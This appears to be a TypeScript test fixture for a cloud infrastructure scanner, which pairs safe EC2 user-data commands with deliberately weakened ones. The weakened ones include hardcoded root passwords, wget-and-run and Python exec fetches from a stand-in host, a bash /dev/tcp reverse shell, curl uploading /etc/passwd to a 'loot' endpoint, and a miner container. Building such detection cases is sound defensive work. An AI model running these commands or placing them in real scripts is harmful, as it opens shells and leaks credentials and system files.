import type { AddedWeakness } from './added-weakness';
import { weakenOneValue } from './one-value';
import { OWN, STRANGER } from './trust-case';

const PASSWORD = 'S3cretRoot9';
const HOST = 'get.stranger.example';
const TEMPLATE = { LaunchTemplateData: { MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 } } };
const encode = (command: string) => ({ 'Fn::Base64': `#!/bin/bash\nset -eu\n${command}\n` });

/** Adds a command to the user data of a machine. Its hardened twin does the same with what the app owns. */
function addCommand(id: string, kind: string, hardened: string, weak: string, names: RegExp): AddedWeakness {
  return weakenOneValue({
    id,
    kind,
    type: 'AWS::EC2::LaunchTemplate',
    properties: { LaunchTemplateData: { ...TEMPLATE.LaunchTemplateData, UserData: encode(hardened) } },
    path: 'LaunchTemplateData.UserData',
    weak: encode(weak),
    names,
  });
}

type Row = readonly [id: string, hardened: string, weak: string];

/** Commands that are given a password, beside those that read it. */
const PASSWORDS: readonly Row[] = [
  ['mysql', 'mysql -p"$DB_PASSWORD" -h db', `mysql -p${PASSWORD} -h db`],
  [
    'curl',
    'curl -u "$USER:$TOKEN" https://s3.amazonaws.com/a',
    `curl -u deploy:${PASSWORD} https://s3.amazonaws.com/a`,
  ],
  ['docker-login', 'docker login -u app --password-stdin < /run/token', `docker login -u app -p ${PASSWORD}`],
  ['chpasswd', 'passwd -l root', `echo "root:${PASSWORD}" | chpasswd`],
  ['sshpass', 'ssh -i /run/key app@10.0.0.1', `sshpass -p ${PASSWORD} ssh app@10.0.0.1`],
  ['htpasswd', 'htpasswd -c /etc/users admin', `htpasswd -cb /etc/users admin ${PASSWORD}`],
  ['redis', 'redis-cli -h cache ping', `redis-cli -h cache -a ${PASSWORD} ping`],
  ['openssl', 'openssl rsa -in key -passin env:PASS', `openssl rsa -in key -passin pass:${PASSWORD}`],
  ['sql', `psql -f users.sql`, `psql -c "CREATE USER app PASSWORD '${PASSWORD}'"`],
  [
    'kubectl',
    'kubectl create secret generic db --from-literal=value=$VALUE',
    `kubectl create secret generic db --from-literal=value=${PASSWORD}`,
  ],
  ['windows-user', 'net user Guest /active:no', `net user Admin ${PASSWORD} /add`],
  [
    'secure-string',
    '$text = Read-Host -AsSecureString',
    `$text = ConvertTo-SecureString "${PASSWORD}" -AsPlainText -Force`,
  ],
];

/** Commands that use what a stranger owns, beside the same with an own one. */
const SOURCES: readonly Row[] = [
  ['bucket', `aws s3 cp s3://tools-${OWN}/a.sh /tmp/a.sh`, 'aws s3 cp s3://stranger-tools/a.sh /tmp/a.sh'],
  [
    'bucket-api',
    `aws s3api get-object --bucket tools-${OWN} --key a /tmp/a`,
    'aws s3api get-object --bucket stranger-tools --key a /tmp/a',
  ],
  [
    'image',
    `docker run -d ${OWN}.dkr.ecr.eu-central-1.amazonaws.com/app:1`,
    'docker run -d -v /data:/data stranger/miner:latest',
  ],
  [
    'image-account',
    `docker pull ${OWN}.dkr.ecr.eu-central-1.amazonaws.com/app:1`,
    `docker pull ${STRANGER}.dkr.ecr.eu-central-1.amazonaws.com/app:1`,
  ],
  ['package', 'yum install -y amazon-cloudwatch-agent', `yum install -y https://${HOST}/agent.rpm`],
  [
    'python-index',
    'pip install --index-url https://pypi.org/simple app==1.2.3',
    `pip install -i https://${HOST}/simple app`,
  ],
  ['node-registry', 'npm ci --registry https://registry.npmjs.org', `npm config set registry https://${HOST}`],
  [
    'apt-source',
    'apt-get install -y nginx',
    `echo "deb https://${HOST}/apt stable main" > /etc/apt/sources.list.d/a.list`,
  ],
  ['repository', 'git -C /opt/app status', 'git clone https://github.com/stranger/tools && ./tools/run'],
  [
    'stored-script',
    `aws s3 cp s3://tools-${OWN}/a.sh . && sh a.sh`,
    `wget https://${HOST}/a.sh && chmod +x a.sh && ./a.sh`,
  ],
  ['reverse-shell', 'bash -c "date"', `bash -i >& /dev/tcp/${HOST}/443 0>&1`],
  [
    'upload',
    'curl -d @a.json https://sqs.eu-central-1.amazonaws.com',
    `curl -X POST -d @/etc/passwd https://${HOST}/loot`,
  ],
  ['copy', 'scp -r /etc/app app@10.0.0.1:/backup', `scp -r /etc user@${HOST}:/loot`],
  ['python-exec', 'python3 -c "print(1)"', `python3 -c "exec(urllib.request.urlopen('https://${HOST}/a').read())"`],
];

/** What commands of a script give away, fetch and send. */
export const scriptCommandWeaknesses: readonly AddedWeakness[] = [
  ...PASSWORDS.map(([id, hardened, weak]) =>
    addCommand(`command-${id}`, 'secret in a text', hardened, weak, /secret in plain text/),
  ),
  ...SOURCES.map(([id, hardened, weak]) =>
    addCommand(
      `fetch-${id}`,
      'trust in another party',
      hardened,
      weak,
      /(host|bucket|image) \S*stranger|host github\.com|account 999988887777 owns the code/,
    ),
  ),
];
